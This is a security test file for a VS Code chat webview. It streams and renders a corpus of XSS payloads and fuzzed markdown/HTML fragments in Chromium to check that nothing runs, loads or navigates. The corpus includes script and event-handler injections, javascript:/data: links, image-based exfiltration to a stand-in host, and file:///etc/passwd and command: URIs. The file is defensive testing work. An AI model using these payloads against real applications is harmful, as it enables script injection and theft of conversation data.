/**
 * Security of the chat webview in real Chromium: the built UI bundle (dist/ui/chat.js) runs in a page served with
 * the webview's exact CSP (src/webview/csp.ts) and a stand-in for acquireVsCodeApi. A corpus of XSS payloads is
 * streamed as model output (delta messages in odd-sized chunks, then the finished turn) and also rendered whole
 * from a state message. Nothing may run (no flag set, no dialog), nothing may be fetched from anywhere but the
 * page's own origin, the DOM of the answers holds no dangerous element or on* attribute and no non-http(s) link;
 * clicking every link posts only `openLink` with an http(s) URL and never navigates.
 * A fast-check fuzz of the renderer itself (markdown-it → DOMPurify, whole and streamed through the chat's
 * StreamView in random chunks): random markdown mixed with HTML, attribute and URL fragments never yields a script,
 * an event-handler attribute, a javascript:/data: (or any non-http(s)) link or an image that could load, and long
 * tables and lists streamed piece by piece end with the DOM of the whole text.
 * Screenshot: test-results/e2e/chat-xss/.
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import * as esbuild from 'esbuild';
import fc from 'fast-check';
import { chromium, type Browser, type Page } from 'playwright-core';
import { contentSecurityPolicy, makeNonce } from '../../src/webview/csp';
import { UI_STRING_KEYS } from '../../src/webview/protocol';

const REPO = path.resolve(__dirname, '../../..');
const SHOTS = path.join(REPO, 'test-results', 'e2e', 'chat-xss');
const CHROMIUM = process.env.AGC_CHROMIUM ?? '/usr/bin/chromium';
const ORIGIN = 'https://chat.test';

/** Each tries to run `window.__xss = n` or to load something from evil.test. */
export const XSS_CORPUS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '<svg onload="window.__xss=3">',
  '<svg><script>window.__xss=4</script></svg>',
  '[click](javascript:window.__xss=5)',
  '[click](JaVaScRiPt:window.__xss=6)',
  '[click](  javascript:window.__xss=7)',
  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9ODwvc2NyaXB0Pg==)',
  '![secret](https://evil.test/p.png?q=conversation-secret)',
  '![x](//evil.test/p.png)',
  '![x](http://evil.test/p.png)',
  '<iframe src="https://evil.test/"></iframe>',
  '</script><script>window.__xss=13</script>',
  '&lt;script&gt;window.__xss=14&lt;/script&gt;',
  '&#60;img src=x onerror=window.__xss=15&#62;',
  '```mermaid\ngraph TD; A-->B; click A callback "javascript:window.__xss=16"\n```',
  '<a href="javascript:window.__xss=17">x</a>',
  '<div style="background:url(https://evil.test/bg.png)">styled</div>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<object data="https://evil.test/x.swf"></object>',
  '<embed src="https://evil.test/x">',
  '<form action="https://evil.test"><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=23>',
  '<details open ontoggle="window.__xss=24">',
  '<video><source onerror="window.__xss=25"></video>',
  '<body onload="window.__xss=26">',
  '<input autofocus onfocus="window.__xss=27">',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '<base href="https://evil.test/">[rel](/x)',
  '[ref]\n\n[ref]: javascript:window.__xss=31',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0zMiI+PC9zdmc+)',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '`<img src=x onerror=window.__xss=34>`',
  '```html\n<script>window.__xss=35</script>\n```',
  '[<img src=x onerror=window.__xss=36>](https://ok.test/a)',
  'https://evil.test/linkify?<script>window.__xss=37</script>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=38>">',
  '*<img src=x onerror=window.__xss=39>*',
  '| a |\n|---|\n| <img src=x onerror=window.__xss=40> |',
  '[x](command:workbench.action.terminal.new)',
  '[x](vscode://file/etc/passwd)',
];

function pageHtml(nonce: string): string {
  const csp = contentSecurityPolicy(ORIGIN, nonce);
  return `<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${csp}">
<link rel="stylesheet" nonce="${nonce}" href="${ORIGIN}/media/chat.css"><title>chat</title></head>
<body><main id="app"></main>
<script nonce="${nonce}">
  window.__posted = []; window.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
  let st;
  window.acquireVsCodeApi = () => ({ postMessage: (m) => window.__posted.push(m), getState: () => st, setState: (s) => { st = s; } });
</script>
<script nonce="${nonce}" src="${ORIGIN}/dist/ui/chat.js"></script>
</body></html>`;
}

/** Every UI string shown as its own key. */
const STRINGS = Object.fromEntries(UI_STRING_KEYS.map((k) => [k, k]));

function state(conversationId: string, turns: unknown[], busy: boolean): unknown {
  return {
    type: 'state',
    state: {
      conversationId,
      title: 'xss',
      connections: [{ id: 'c1', label: 'Sim' }],
      connectionId: 'c1',
      modelId: 'm1',
      models: [{ id: 'm1', label: 'm1' }],
      systemPrompt: '',
      turns,
      context: [],
      busy,
      totals: { tokens: 0 },
      strings: STRINGS,
    },
  };
}

describe('UI security: XSS corpus as model output in real Chromium', { timeout: 180000 }, () => {
  let browser: Browser;
  let page: Page;
  const foreign: string[] = [];
  const dialogs: string[] = [];

  before(async () => {
    assert.ok(fs.existsSync(path.join(REPO, 'dist/ui/chat.js')), 'dist/ui/chat.js is built');
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
    page = await browser.newPage({ viewport: { width: 1000, height: 1400 } });
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const nonce = makeNonce();
    await page.route('**/*', async (route) => {
      const url = new URL(route.request().url());
      if (url.origin !== ORIGIN) {
        foreign.push(url.href);
        return route.abort();
      }
      if (url.pathname === '/index.html')
        return route.fulfill({ status: 200, contentType: 'text/html', body: pageHtml(nonce) });
      const file = path.join(REPO, url.pathname);
      if ((url.pathname === '/dist/ui/chat.js' || url.pathname === '/media/chat.css') && fs.existsSync(file)) {
        return route.fulfill({
          status: 200,
          contentType: url.pathname.endsWith('.js') ? 'text/javascript' : 'text/css',
          body: fs.readFileSync(file),
        });
      }
      foreign.push(url.href);
      return route.fulfill({ status: 404, body: '' });
    });
    await page.goto(`${ORIGIN}/index.html`);
    await page.waitForFunction('window.__posted.some((m) => m.type === "ready")');
  });

  after(async () => {
    await browser?.close();
  });

  it(`streams ${XSS_CORPUS.length} payloads as model output: nothing runs, nothing loads`, async () => {
    assert.ok(XSS_CORPUS.length >= 30);
    const user = { id: 'u0', role: 'user', content: 'show me your worst' };
    const answers = XSS_CORPUS.map((_, i) => ({ id: `a${i}`, role: 'assistant', content: '', status: 'streaming' }));
    await page.evaluate(`window.postMessage(${JSON.stringify(state('conv-stream', [user, ...answers], true))}, '*')`);
    for (const [i, payload] of XSS_CORPUS.entries()) {
      const text = `Payload ${i + 1}:\n\n${payload}\n\nafter\n`;
      let offset = 0;
      for (let size = 1; offset < text.length; size = (size % 7) + 2) {
        const chunk = text.slice(offset, offset + size);
        await page.evaluate(
          `window.postMessage(${JSON.stringify({ type: 'delta', turnId: `a${i}`, offset, text: chunk })}, '*')`,
        );
        offset += chunk.length;
      }
      const done = {
        type: 'turn',
        turn: { id: `a${i}`, role: 'assistant', content: text, status: 'done' },
        busy: i < XSS_CORPUS.length - 1,
        totals: { tokens: 0 },
      };
      await page.evaluate(`window.postMessage(${JSON.stringify(done)}, '*')`);
    }
    await page.waitForFunction(
      `document.querySelectorAll('.turn.assistant').length === ${XSS_CORPUS.length} && !document.querySelector('.turn.streaming') && !document.querySelector('.block.open')`,
    );
    await page.waitForTimeout(300); // let any (wrongly) scheduled handler fire
    await assertClean(page, 'streamed', false);
    // finished answers far from the viewport leave the DOM: scroll through them all, checking each
    const seen = await scanLog(page);
    assert.equal(seen.bodies, XSS_CORPUS.length + 1);
    assert.deepEqual(seen.bad, [], 'streamed: dangerous DOM somewhere in the conversation');
    assert.ok(seen.imageLinks >= 2, `streamed: markdown images became labelled links (${seen.imageLinks})`);
    fs.mkdirSync(SHOTS, { recursive: true });
    await page.screenshot({ path: path.join(SHOTS, '01-streamed-corpus.png'), fullPage: false });
  });

  it('renders the same payloads whole (history / state path): nothing runs, nothing loads', async () => {
    const turns = XSS_CORPUS.flatMap((p, i) => [
      { id: `u${i}`, role: 'user', content: p },
      {
        id: `w${i}`,
        role: 'assistant',
        content: `Payload ${i + 1}:\n\n${p}\n`,
        status: i % 3 === 0 ? 'stopped' : 'done',
      },
    ]);
    await page.evaluate(`window.postMessage(${JSON.stringify(state('conv-whole', turns, false))}, '*')`);
    await page.waitForFunction(
      `document.querySelectorAll('.turn.assistant').length === ${XSS_CORPUS.length} && document.querySelector('[data-turn="w0"]') !== null`,
    );
    // a long history keeps only the turns near the viewport in the DOM: scroll through all of it, checking as it goes
    const seen = await scanLog(page);
    assert.equal(seen.bodies, XSS_CORPUS.length * 2, 'every turn was rendered on the way');
    assert.deepEqual(seen.bad, [], 'whole: dangerous DOM somewhere in the history');
    assert.ok(seen.imageLinks >= 2, `whole: markdown images became labelled links (${seen.imageLinks})`);
    await page.waitForTimeout(300);
    await assertClean(page, 'whole', false);
    await page.screenshot({ path: path.join(SHOTS, '02-whole-corpus.png'), fullPage: false });
  });

  it('clicking every link posts only openLink with an http(s) URL and never navigates', async () => {
    const before = await page.evaluate<number>('window.__posted.length');
    const count = (await scanLog(page, true)).links;
    assert.ok(count > 3, `found ${count} links`);
    const posted = await page.evaluate<Array<{ type: string; url?: string }>>(`window.__posted.slice(${before})`);
    assert.ok(posted.length > 0);
    for (const m of posted) {
      assert.equal(m.type, 'openLink');
      assert.match(m.url ?? '', /^https?:\/\//);
    }
    assert.equal(page.url(), `${ORIGIN}/index.html`, 'no navigation');
    assert.deepEqual(foreign, []);
  });

  /** Scrolls the message log from the top to the bottom, checking (and, with `click`, clicking the links of) each part as it shows. */
  async function scanLog(
    p: Page,
    click = false,
  ): Promise<{ bad: string[]; imageLinks: number; links: number; bodies: number }> {
    return p.evaluate<{ bad: string[]; imageLinks: number; links: number; bodies: number }>(`(async () => {
      const log = document.querySelector('#log');
      const frames = (n) => new Promise((r) => { const f = () => (n-- > 0 ? requestAnimationFrame(f) : r()); f(); });
      const bad = new Set(); const images = new Set(); const links = new Set(); const bodies = new Set();
      log.scrollTop = 0;
      for (let y = 0; ; y += 500) {
        log.scrollTop = y;
        // (a fast scroll leaves answers never shown as placeholders until it slows down: pause at each step)
        await new Promise((r) => setTimeout(r, 250));
        await frames(3);
        for (const turn of log.querySelectorAll('article.turn')) {
          const body = turn.querySelector(':scope > .body');
          if (!body) continue;
          bodies.add(turn.dataset.turn);
          for (const el of body.querySelectorAll('*')) {
            const tag = el.tagName.toLowerCase();
            if (['script', 'img', 'iframe', 'svg', 'math', 'object', 'embed', 'form', 'style', 'link', 'meta', 'base', 'video', 'audio', 'source', 'input', 'details', 'noscript', 'body'].includes(tag)) bad.add('tag ' + tag);
            for (const a of el.attributes) {
              if (a.name.startsWith('on') || a.name === 'style' || a.name === 'src' || a.name === 'srcdoc' || a.name === 'action') bad.add(tag + ' @' + a.name);
              if (a.name === 'href' && !/^https?:\\/\\//i.test(a.value)) bad.add(tag + ' href=' + a.value);
            }
          }
          body.querySelectorAll('.image-link').forEach((e, i) => images.add(turn.dataset.turn + ':' + i));
          body.querySelectorAll('a').forEach((a, i) => {
            const k = turn.dataset.turn + ':' + i;
            if (${click} && !links.has(k)) a.click();
            links.add(k);
          });
        }
        if (y >= log.scrollHeight - log.clientHeight) break;
      }
      return { bad: [...bad], imageLinks: images.size, links: links.size, bodies: bodies.size };
    })()`);
  }

  async function assertClean(p: Page, label: string, everythingInDom = true): Promise<void> {
    assert.equal(await p.evaluate('window.__xss'), undefined, `${label}: a payload ran`);
    assert.deepEqual(dialogs, [], `${label}: a dialog opened`);
    assert.deepEqual(foreign, [], `${label}: something was fetched from elsewhere`);
    const report = await p.evaluate<{ bad: string[]; imageLinks: number; text: number }>(`(() => {
      const bad = [];
      // model output lives in the turns' bodies (the articles' own attributes, e.g. a parked turn's height, are ours)
      for (const el of document.querySelectorAll('#log .body, #log .body *')) {
        const tag = el.tagName.toLowerCase();
        if (['script', 'img', 'iframe', 'svg', 'math', 'object', 'embed', 'form', 'style', 'link', 'meta', 'base', 'video', 'audio', 'source', 'input', 'details', 'noscript', 'body'].includes(tag)) bad.push('tag ' + tag);
        for (const a of el.attributes) {
          if (a.name.startsWith('on') || a.name === 'style' || a.name === 'src' || a.name === 'srcdoc' || a.name === 'action') bad.push(tag + ' @' + a.name);
          if (a.name === 'href' && !/^https?:\\/\\//i.test(a.value)) bad.push(tag + ' href=' + a.value);
        }
      }
      const imageLinks = document.querySelectorAll('#log .image-link').length;
      return { bad, imageLinks, text: document.querySelector('#log').textContent.length };
    })()`);
    assert.deepEqual(report.bad, [], `${label}: dangerous DOM`);
    if (!everythingInDom) return;
    assert.ok(report.imageLinks >= 2, `${label}: markdown images became labelled links (${report.imageLinks})`);
    assert.ok(report.text > 1000, 'the payloads are shown as text');
  }
});

/** The renderer under test, bundled from src/ui/chat for the page (the same modules dist/ui/chat.js is built from). */
const HARNESS = `
import { createMarkdown } from './markdown';
import { sanitize } from './sanitize';
import { StreamView } from './stream';
const md = { true: createMarkdown({ highlight: true }), false: createMarkdown({ highlight: false }) };
const ctx = { md: (h) => md[h], decorate: () => {}, schedule: () => {} };
const BAD_TAGS = new Set(['script', 'img', 'image', 'iframe', 'frame', 'svg', 'math', 'object', 'embed', 'form', 'style', 'link', 'meta', 'base', 'video',
  'audio', 'source', 'track', 'input', 'button', 'textarea', 'select', 'details', 'noscript', 'template', 'portal', 'applet', 'body', 'html', 'head']);
function check(root, where, out) {
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (BAD_TAGS.has(tag)) out.push(where + ': <' + tag + '>');
    for (const a of el.attributes) {
      const n = a.name.toLowerCase();
      // (a streaming table's open rows sit in a table of ours, class open-rows, whose columns get widths: not model output)
      if (n === 'style' && (tag === 'col' || el.matches('table.open-rows'))) continue;
      if (n.startsWith('on') || ['style', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'background', 'poster', 'xlink:href', 'data', 'ping', 'target'].includes(n)) out.push(where + ': <' + tag + ' ' + n + '>');
      if (n === 'href' && !/^https?:\\/\\/[^\\s/]/i.test(a.value)) out.push(where + ': href=' + a.value);
    }
  }
}
window.__fuzz = (cases) => cases.map(({ text, cuts, dom }) => {
  const out = [];
  const whole = document.createElement('div');
  whole.append(sanitize(md.true.render(text)));
  check(whole, 'whole', out);
  const body = document.createElement('div');
  document.body.append(body);
  const v = new StreamView(body, '', ctx);
  let prev = 0;
  for (const c of cuts) { v.push(text.slice(prev, c)); v.frame(); check(body, 'open', out); prev = c; }
  v.push(text.slice(prev));
  v.finish();
  check(body, 'streamed', out);
  // the streamed pieces, unwrapped, are the whole text's DOM
  const joined = [...body.children].map((b) => b.innerHTML).join('');
  const same = joined === whole.innerHTML;
  body.remove();
  return { bad: out, same, ...(dom ? { html: whole.innerHTML, nested: whole.querySelectorAll('a a').length } : {}) };
});
`;

const FRAGMENTS = [
  '<script>window.__xss=1</script>',
  '<script',
  '</script>',
  '<img src=x onerror=window.__xss=2>',
  '<img',
  ' src=',
  'x',
  ' onerror=',
  'onload=',
  'window.__xss=3',
  '<svg onload=window.__xss=4>',
  '<svg>',
  '<math>',
  '<iframe src=//evil.test>',
  '<a href="javascript:window.__xss=5">',
  '<a href=',
  '</a>',
  '<b>',
  '</b>',
  '<details open ontoggle=window.__xss=6>',
  '<style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<object data=//evil.test>',
  '<form action=//evil.test>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content=0;url=//evil.test>',
  '<video><source onerror=window.__xss=7>',
  '<body onload=window.__xss=8>',
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '<noscript>',
  '<p title="',
  '">',
  "'",
  '"',
  '`',
  '=',
  '<',
  '>',
  '&lt;',
  '&gt;',
  '&#60;',
  '&#x3C;',
  '&#106;',
  '&colon;',
  '&amp;',
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0000javascript:',
  'vbscript:',
  'data:text/html,<script>window.__xss=9</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=',
  'file:///etc/passwd',
  'command:workbench.action.terminal.new',
  'vscode://file/x',
  'mailto:a@b.test',
  '%6A%61vascript:',
  '//evil.test/p.png',
  'http://evil.test/p.png',
  'https://evil.test/p.png?q=secret',
  'https://ok.test/a',
  'ok.test',
  'www.ok.test',
  '[',
  ']',
  '(',
  ')',
  '![',
  '](',
  '[x]',
  '[x]: javascript:window.__xss=10',
  '[x]: //evil.test',
  '<https://ok.test>',
  '<javascript:window.__xss=11>',
  '\\',
  '*',
  '**',
  '_',
  '~~',
  '#',
  '## ',
  '> ',
  '- ',
  '1. ',
  '| a |',
  '|---|',
  '```',
  '```html',
  '~~~',
  '    ',
  '\n',
  '\n\n',
  ' ',
  'text',
  '你好',
  '\u202e',
  '\u200b',
  '\u2066',
  '    ```',
  '[d]',
  '[d]: https://ok.test/d',
  '[![a](https://ok.test/i.png)](https://ok.test/)',
  '[https://bank.test](https://evil.test)',
  'https://bank.test@evil.test/',
  '|:-:|--:|',
];

describe(
  'UI security: fuzzing the markdown renderer and sanitiser in real Chromium (fast-check)',
  { timeout: 300000 },
  () => {
    let browser: Browser;
    let page: Page;
    const foreign: string[] = [];
    const dialogs: string[] = [];

    before(async () => {
      const bundle = (
        await esbuild.build({
          stdin: { contents: HARNESS, resolveDir: path.join(REPO, 'src/ui/chat'), loader: 'js' },
          bundle: true,
          write: false,
          format: 'iife',
          platform: 'browser',
          target: ['chrome120'],
          logLevel: 'warning',
        })
      ).outputFiles[0]!.text;
      browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
      page = await browser.newPage();
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      const nonce = makeNonce();
      const html = `<!DOCTYPE html><html><head><meta charset="UTF-8"><meta http-equiv="Content-Security-Policy" content="${contentSecurityPolicy(ORIGIN, nonce)}"></head>
<body><script nonce="${nonce}">window.__violations = []; document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));</script>
<script nonce="${nonce}" src="${ORIGIN}/harness.js"></script></body></html>`;
      await page.route('**/*', (route) => {
        const url = new URL(route.request().url());
        if (url.origin === ORIGIN && url.pathname === '/index.html')
          return route.fulfill({ status: 200, contentType: 'text/html', body: html });
        if (url.origin === ORIGIN && url.pathname === '/harness.js')
          return route.fulfill({ status: 200, contentType: 'text/javascript', body: bundle });
        foreign.push(url.href);
        return route.abort();
      });
      await page.goto(`${ORIGIN}/index.html`);
      await page.waitForFunction('typeof window.__fuzz === "function"');
    });

    after(async () => {
      await browser?.close();
    });

    it('random markdown + HTML / attribute / URL fragments, whole and streamed: no script, handler, non-http(s) link or loadable image', async () => {
      const doc = fc
        .array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ maxLength: 6 })), { minLength: 1, maxLength: 40 })
        .map((parts) => parts.join(''));
      const sample = fc.sample(fc.tuple(doc, fc.array(fc.integer({ min: 0, max: 400 }), { maxLength: 12 })), {
        numRuns: 1200,
        seed: 0x5eed,
      });
      let checked = 0;
      for (let i = 0; i < sample.length; i += 100) {
        const cases = sample.slice(i, i + 100).map(([text, cuts]) => ({
          text,
          cuts: [...new Set(cuts.map((c) => Math.min(c, text.length)))].sort((a, b) => a - b),
        }));
        const results = await page.evaluate<Array<{ bad: string[]; same: boolean }>>(
          `window.__fuzz(${JSON.stringify(cases)})`,
        );
        for (const [j, r] of results.entries()) {
          assert.deepEqual(r.bad, [], `case ${i + j}: ${JSON.stringify(cases[j]!.text)}`);
          checked++;
        }
      }
      assert.equal(checked, 1200);
      await page.waitForTimeout(200);
      assert.equal(await page.evaluate('window.__xss'), undefined, 'a payload ran');
      assert.deepEqual(dialogs, []);
      assert.deepEqual(foreign, [], 'nothing was fetched');
      assert.deepEqual(await page.evaluate('window.__violations'), [], 'nothing even tried to load (no CSP report)');
    });

    it('long tables and lists with payloads in their cells, streamed piece by piece, end with the DOM of the whole text', async () => {
      const rows = Array.from(
        { length: 300 },
        (_, i) =>
          `| ${i} | <img src=x onerror=window.__xss=${i}> [x](javascript:window.__xss=1) | ![p](https://evil.test/${i}.png) |`,
      );
      const items = Array.from(
        { length: 300 },
        (_, i) => `${i + 1}. item <script>window.__xss=${i}</script> [ok](https://ok.test/${i}) \`code\``,
      );
      const loose = Array.from({ length: 60 }, (_, i) => `- item ${i}${i === 40 ? '\n' : ''}`);
      const texts = [
        `| a | b | c |\n|---|:-:|--:|\n${rows.join('\n')}\nafter the table`,
        `Steps:\n${items.join('\n')}\n\nDone.`,
        `${loose.join('\n')}\n\nEnd.`,
      ];
      const cases = texts.map((text) => ({
        text,
        cuts: Array.from({ length: Math.floor(text.length / 31) }, (_, i) => (i + 1) * 31),
      }));
      const results = await page.evaluate<Array<{ bad: string[]; same: boolean }>>(
        `window.__fuzz(${JSON.stringify(cases)})`,
      );
      for (const [i, r] of results.entries()) {
        assert.deepEqual(r.bad, [], `text ${i}`);
        assert.equal(r.same, true, `text ${i}: the streamed DOM is the whole text's DOM`);
      }
      assert.equal(await page.evaluate('window.__xss'), undefined);
      assert.deepEqual(foreign, []);
    });

    it('markdown that could mislead renders the same streamed and whole, and survives the sanitiser as marked', async () => {
      const texts = [
        // a 4-space fence line is code, not the closing fence; the real fence closes later
        '```js\nconst a = 1;\n    ```\n\nstill code\n\n```\n\nafter',
        // reference definitions after the links that use them
        'See [the docs][d] and [x].\n\n| a | b |\n|---|---|\n| [x] | 2 |\n\nMore.\n\n[d]: https://ok.test/d\n[x]: https://ok.test/x',
        // links whose text misleads, user info, an IDN look-alike, an image inside a link
        '[https://bank.test/login](https://evil.test/login) [ok](https://bank.test@evil.test/) [apple](https://\u0430pple.com/) [report\u202Efdp.exe](https://ok.test/r)\n\n[![logo](https://evil.test/l.png)](https://ok.test/)',
        // table alignment, bidi and zero-width characters in code
        '| l | c | r |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n```js\nif (role != "user\u202E \u2066// admin\u2069 \u2066") {}\nconst a\u200B = 1;\n```\n\n`x\u2067y`',
      ];
      const cases = texts.flatMap((text) =>
        [1, 7, 31].map((step) => ({
          text,
          cuts: Array.from({ length: Math.ceil(text.length / step) }, (_, i) => i * step),
          dom: true,
        })),
      );
      const results = await page.evaluate<Array<{ bad: string[]; same: boolean; html: string; nested: number }>>(
        `window.__fuzz(${JSON.stringify(cases)})`,
      );
      for (const [i, r] of results.entries()) {
        assert.deepEqual(r.bad, [], `case ${i}`);
        assert.equal(r.same, true, `case ${i}: the streamed DOM is the whole text's DOM`);
        assert.equal(r.nested, 0, `case ${i}: no link inside a link`);
      }
      const [fence, refs, links, marks] = [0, 3, 6, 9].map((i) => results[i]!.html);
      assert.equal((fence!.match(/<pre>/g) ?? []).length, 1, fence);
      assert.match(refs!, /<a href="https:\/\/ok\.test\/d" title="https:\/\/ok\.test\/d">the docs<\/a>/);
      assert.equal((links!.match(/class="deceptive-link"/g) ?? []).length, 2, links);
      assert.match(links!, /title="https:\/\/bank\.test@evil\.test\/"/);
      assert.match(links!, /title="https:\/\/xn--pple-43d\.com\/"/);
      for (const a of ['left', 'center', 'right']) assert.match(marks!, new RegExp(`<th class="align-${a}">`));
      for (const cp of ['202E', '2066', '2069', '200B', '2067'])
        assert.match(marks!, new RegExp(`<span class="invisible-char" title="U\\+${cp}">\u27e8U\\+${cp}\u27e9</span>`));
      assert.equal(await page.evaluate('window.__xss'), undefined);
      assert.deepEqual(foreign, []);
    });
  },
);
